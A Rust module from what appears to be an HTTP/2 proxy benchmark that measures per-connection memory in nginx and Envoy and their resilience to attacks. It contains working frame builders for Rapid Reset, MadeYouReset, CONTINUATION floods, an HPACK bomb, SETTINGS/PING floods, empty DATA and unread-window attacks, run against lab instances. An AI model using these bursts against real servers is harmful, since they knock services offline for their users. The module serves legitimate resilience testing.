//! Clients of HTTP/2 that send prepared frames: the memory of connections with many streams, and attacks beside honest traffic.

use std::fmt::Write as _;
use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use hdrhistogram::Histogram;
use loadx_http::h2::frame::{
    Frame, FrameHead, PREFACE, put_continuation, put_data_head, put_headers, put_ping, put_reset, put_settings,
    put_settings_ack, put_window_update,
};
use loadx_http::h2::hpack::put_field;
use loadx_http::h2::{Code, Setting};

use super::PeersArguments;
use super::contender::Contender;
use super::lab::{LOAD_PROCESSOR, Lab, Running, Stage};
use crate::Trouble;
use crate::processes;

/// The connections and streams of the measurement of memory.
const HELD: usize = 1_000;
const STREAMS: u32 = 100;

/// The time without a byte from a proxy after which the proxy counts as settled.
const SETTLES: Duration = Duration::from_secs(6);

/// The time after which an idle proxy has given unused memory back, if it ever does.
const RESTS: Duration = Duration::from_secs(65);

/// The longest wait for the last byte.
const SETTLES_MAX: Duration = Duration::from_secs(150);

/// The pause of an attacker between two bursts, and of the honest client between two requests.
const PAUSE: Duration = Duration::from_millis(1);

const FRAME_MAX: usize = 16_384;

fn contenders(lab: &Lab) -> Vec<Contender> {
    let mut peers = vec![Contender::Nginx];
    peers.extend(Contender::envoy());
    lab.contenders(&peers)
}

/// Appends the head of a request.
fn put_request(stream: u32, method: &str, path: &str, ends: bool, out: &mut Vec<u8>) {
    put_headers(stream, ends, FRAME_MAX, out, |out| {
        let fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "app.example.com")];
        fields.iter().for_each(|(name, value)| put_field(name.as_bytes(), value.as_bytes(), out));
    });
}

/// Begins a connection with these settings.
fn begin(address: SocketAddr, settings: &[Setting], more: &[u8]) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    let mut out = PREFACE.to_vec();
    put_settings(settings, &mut out);
    put_settings_ack(&mut out);
    out.extend_from_slice(more);
    stream.write_all(&out)?;
    Ok(stream)
}

/// The memory of connections whose streams are done, and of connections whose streams wait for a window that never opens.
pub(super) fn memory(lab: &Lab, _: &PeersArguments) -> Result<String, Trouble> {
    let mut table = format!(
        "| resident memory for each of {HELD} connections of HTTP/2 with {STREAMS} streams, KiB | done, then idle | 13 bytes, no window | \
         1 MiB, no window |\n|---|---|---|---|\n"
    );
    let standard = Setting::Window(65_535);
    let shut = Setting::Window(0);
    let turns = [("/", standard, RESTS), ("/", shut, SETTLES), ("/bytes/1048576", shut, SETTLES)];
    for contender in contenders(lab) {
        let _ = write!(table, "| {} |", contender.name());
        for (path, window, quiet) in turns {
            let running = lab.start_clear_h2(&contender, &Stage::USUAL, None)?;
            let held = held(&running, path, window, quiet)?;
            let _ = write!(table, " {:.0} |", held / 1_024.0);
        }
        table.push('\n');
    }
    Ok(table)
}

/// The memory that a contender holds for each connection after a `quiet` time, in bytes.
fn held(running: &Running, path: &str, window: Setting, quiet: Duration) -> io::Result<f64> {
    let mut requests = Vec::new();
    (0..STREAMS).for_each(|at| put_request(1 + 2 * at, "GET", path, true, &mut requests));
    // Excludes the memory that the first requests allocate once.
    drain(&mut [begin(running.address, &[Setting::Window(65_535)], &requests)?], Duration::from_secs(1))?;
    let before = running.process.resident();
    let mut streams = Vec::new();
    for _ in 0..HELD {
        streams.push(begin(running.address, &[window], &requests)?);
    }
    drain(&mut streams, quiet)?;
    Ok((running.process.resident() as f64 - before as f64) / HELD as f64)
}

/// Reads and discards what comes, until nothing has come for `quiet`.
fn drain(streams: &mut [TcpStream], quiet: Duration) -> io::Result<()> {
    let began = Instant::now();
    let mut heard = began;
    let mut buffer = vec![0; 64 * 1024];
    streams.iter().try_for_each(|stream| stream.set_nonblocking(true))?;
    while heard.elapsed() < quiet && began.elapsed() < SETTLES_MAX {
        for stream in &mut *streams {
            while matches!(stream.read(&mut buffer), Ok(1..)) {
                heard = Instant::now();
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// An attack: appends the next burst, for the streams from a number on. Returns the next number.
struct Attack {
    name: &'static str,
    /// What a new connection begins with.
    settings: &'static [Setting],
    burst: fn(u32, &mut Vec<u8>) -> u32,
}

const ATTACKS: [Attack; 8] = [
    Attack { name: "none", settings: &[], burst: |stream, _| stream },
    Attack { name: "Rapid Reset", settings: &[], burst: rapid_reset },
    Attack { name: "MadeYouReset", settings: &[], burst: made_you_reset },
    Attack { name: "CONTINUATION", settings: &[], burst: continuations },
    Attack { name: "HPACK bomb", settings: &[], burst: bomb },
    Attack { name: "SETTINGS and PING", settings: &[], burst: settings_and_pings },
    Attack { name: "empty DATA", settings: &[], burst: empty_data },
    Attack { name: "1 MiB, not read", settings: &[Setting::Window(1)], burst: unread },
];

fn rapid_reset(first: u32, out: &mut Vec<u8>) -> u32 {
    for at in 0..20 {
        put_request(first + 2 * at, "GET", "/", true, out);
        put_reset(first + 2 * at, Code::Cancel, out);
    }
    first + 40
}

fn made_you_reset(first: u32, out: &mut Vec<u8>) -> u32 {
    for at in 0..20 {
        put_request(first + 2 * at, "GET", "/", true, out);
        // An increment of nothing is a fault of the stream.
        put_window_update(first + 2 * at, 0, out);
    }
    first + 40
}

fn continuations(first: u32, out: &mut Vec<u8>) -> u32 {
    if first == 1 {
        put_request(1, "GET", "/", true, out);
        // Without the flag that ends the section.
        if let Some(flags) = out.get_mut(4) {
            *flags &= !0x4;
        }
    }
    (0..200).for_each(|_| put_continuation(1, b"", false, out));
    first + 2
}

fn bomb(first: u32, out: &mut Vec<u8>) -> u32 {
    put_headers(first, true, FRAME_MAX, out, |out| {
        // A field of 4,000 bytes for the table, then references to the field.
        out.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
        out.extend_from_slice(&[b'y'; 4_000]);
        out.extend_from_slice(&[0xbe; 8_000]);
    });
    first + 2
}

fn settings_and_pings(first: u32, out: &mut Vec<u8>) -> u32 {
    for _ in 0..100 {
        put_settings(&[Setting::Window(65_535)], out);
        put_ping(false, b"attacks!", out);
    }
    first
}

fn empty_data(first: u32, out: &mut Vec<u8>) -> u32 {
    if first == 1 {
        put_request(1, "POST", "/", false, out);
    }
    (0..200).for_each(|_| put_data_head(1, 0, false, out));
    first + 2
}

fn unread(first: u32, out: &mut Vec<u8>) -> u32 {
    if first > 200 {
        return first;
    }
    (0..100).for_each(|at| put_request(first + 2 * at, "GET", "/bytes/1048576", true, out));
    first + 200
}

/// What an attack did to the honest client and to the proxy.
struct Damage {
    times: Histogram<u64>,
    /// The requests of the honest client that failed.
    lost: u64,
    /// The part of a processor that the proxy used.
    processor: f64,
    /// By how much the resident memory of the proxy grew, in bytes.
    grown: f64,
    /// The connections of attackers that the proxy ended.
    ended: u64,
}

/// Attacks by two connections beside an honest client.
pub(super) fn attacks(lab: &Lab, arguments: &PeersArguments) -> Result<String, Trouble> {
    let span = Duration::from_secs_f64(arguments.seconds);
    let mut table = "| attack | proxy | honest p50, µs | honest p99, µs | failed | processor | memory grown, MiB | connections ended |\n\
                     |---|---|---|---|---|---|---|---|\n"
        .to_owned();
    for attack in &ATTACKS {
        for contender in contenders(lab) {
            let running = lab.start_clear_h2(&contender, &Stage::USUAL, None)?;
            let damage = measure(&running, attack, span)?;
            let quantile = |q| damage.times.value_at_quantile(q);
            let _ = writeln!(
                table,
                "| {} | {} | {} | {} | {} | {:.0} % | {:.1} | {} |",
                attack.name,
                contender.name(),
                quantile(0.5),
                quantile(0.99),
                damage.lost,
                damage.processor * 100.0,
                damage.grown / 1_048_576.0,
                damage.ended
            );
        }
    }
    Ok(table)
}

fn measure(running: &Running, attack: &Attack, span: Duration) -> Result<Damage, Trouble> {
    let address = running.address;
    // Opens what the proxy opens once.
    honest(address, &AtomicBool::new(false), Duration::from_millis(500))?;
    let (used, before, began) = (running.process.used(), running.process.resident(), Instant::now());
    let (is_over, ended) = (AtomicBool::new(false), AtomicU64::new(0));
    let outcome = std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| attacker(address, attack, &is_over, &ended));
        }
        let outcome = honest(address, &is_over, span);
        let grown = running.process.resident() as f64 - before as f64;
        is_over.store(true, Ordering::Relaxed);
        outcome.map(|(times, lost)| (times, lost, grown))
    });
    let (times, lost, grown) = outcome?;
    let used = running.process.used().since(used);
    let processor = (used.user + used.system) / began.elapsed().as_secs_f64();
    Ok(Damage { times, lost, processor, grown, ended: ended.into_inner() })
}

/// One request after the other, with pauses. Returns the times in microseconds, and the number of failed requests.
fn honest(address: SocketAddr, is_over: &AtomicBool, span: Duration) -> io::Result<(Histogram<u64>, u64)> {
    processes::pin(LOAD_PROCESSOR)?;
    let mut times = Histogram::new(3).map_err(io::Error::other)?;
    let (mut lost, began) = (0, Instant::now());
    let mut connection: Option<(TcpStream, u32)> = None;
    while began.elapsed() < span && !is_over.load(Ordering::Relaxed) {
        let (mut stream, number) = match connection.take() {
            Some(open) => open,
            None => {
                let stream = begin(address, &[], b"")?;
                stream.set_read_timeout(Some(Duration::from_secs(10)))?;
                stream.set_nodelay(true)?;
                (stream, 1)
            }
        };
        let asked = Instant::now();
        let mut out = Vec::new();
        put_request(number, "GET", "/", true, &mut out);
        match stream.write_all(&out).and_then(|()| until_end(&mut stream, number)) {
            Ok(()) => {
                times.saturating_record(asked.elapsed().as_micros() as u64);
                connection = Some((stream, number + 2));
            }
            Err(_) => lost += 1,
        }
        std::thread::sleep(PAUSE);
    }
    Ok((times, lost))
}

/// Reads frames until the end of this stream.
fn until_end(stream: &mut TcpStream, number: u32) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head)?;
        let head = FrameHead::read(&head);
        let mut payload = vec![0; head.length];
        stream.read_exact(&mut payload)?;
        match head.frame(&payload) {
            Ok(Frame::Data { stream, ends: true, .. } | Frame::Headers { stream, ends: true, .. })
                if stream == number =>
            {
                return Ok(());
            }
            Ok(Frame::Reset { .. } | Frame::Goaway { .. }) => return Err(ErrorKind::ConnectionAborted.into()),
            _ => {}
        }
    }
}

/// Attacks until the end; begins again when the proxy ends the connection.
fn attacker(address: SocketAddr, attack: &Attack, is_over: &AtomicBool, ended: &AtomicU64) {
    let _ = processes::pin(LOAD_PROCESSOR);
    let mut buffer = vec![0; 64 * 1024];
    while !is_over.load(Ordering::Relaxed) {
        let Ok(mut stream) = begin(address, attack.settings, b"") else { continue };
        let _ = stream.set_nonblocking(true);
        let (mut next, mut out) = (1, Vec::new());
        let is_lost = loop {
            if is_over.load(Ordering::Relaxed) {
                break false;
            }
            if out.is_empty() {
                next = (attack.burst)(next, &mut out);
            }
            match stream.write(&out) {
                Ok(count) => drop(out.drain(..count)),
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => break true,
            }
            match stream.read(&mut buffer) {
                Ok(0) => break true,
                Err(error) if error.kind() != ErrorKind::WouldBlock => break true,
                _ => {}
            }
            std::thread::sleep(PAUSE);
        };
        ended.fetch_add(u64::from(is_lost), Ordering::Relaxed);
    }
}
